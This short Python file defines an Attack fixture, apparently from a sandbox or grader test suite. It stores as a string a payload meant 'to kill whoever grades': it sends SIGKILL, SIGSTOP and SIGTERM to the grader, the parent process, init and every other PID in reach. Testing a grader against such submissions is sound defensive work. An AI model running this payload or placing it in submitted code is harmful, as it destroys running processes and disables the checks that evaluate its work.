from attack import Attack

_TEXT = """
import os, signal
for process in (GRADER, os.getppid(), *range(2, 400), 1, -1):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        try: os.kill(process, number)
        except OSError as error: last = error
raise last
"""
ATTACK = Attack(
    "to kill whoever grades",
    figure=_TEXT,
    points={"pick": 2.0},
    reason="ProcessLookupError",
)
